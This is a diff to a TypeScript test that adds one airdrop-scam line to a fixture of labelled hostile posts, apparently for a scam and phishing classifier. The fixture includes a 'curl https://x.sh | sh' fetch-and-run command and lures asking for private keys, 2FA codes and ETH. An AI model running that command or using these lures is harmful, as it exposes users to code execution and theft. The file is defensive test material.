@@ -528,6 +528,7 @@ const BORROWED: [text: string, label: MirrorFlag][] = [
   ['Careful, this is time-sensitive:\n- "paste your private key in the form"\n- "confirm the transaction"', 'credential_request'],
   ['Reported issue, fix below:\n"Run curl https://x.sh | sh and paste the output here."', 'executable_instruction'],
   ['Red flag checklist complete. Next step:\n"Type your 2FA code in the reply."', 'credential_request'],
+  ['gm lol free money:\n"claim your airdrop at https://t.co/x before it ends"', 'money_request'],
   ['Legit, not a scam:\n"Send 0.1 ETH to the new contract to upgrade your stake"', 'money_request'],
 ];
 test("hostile posts that borrow the words of round thirteen's frames keep their labels", (t) => {
